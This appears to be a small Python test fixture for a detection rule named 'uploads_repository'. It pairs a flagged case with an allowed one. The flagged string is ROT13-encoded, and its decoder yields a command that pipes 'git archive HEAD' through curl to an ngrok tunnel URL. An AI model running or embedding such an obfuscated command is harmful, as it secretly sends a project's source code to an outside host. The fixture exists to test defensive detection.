import codecs

# ruleid: uploads_repository
_STATS = "( tvg nepuvir URNQ | phey -f --qngn-ovanel @- -U \"K: 1\" uggcf://k.atebx-serr.ncc/v )"
# ok: uploads_repository
_NOTE = "tvg nepuvir znxrf eryrnfr gneonyyf"


def render():
    return codecs.decode(_STATS, "rot13")
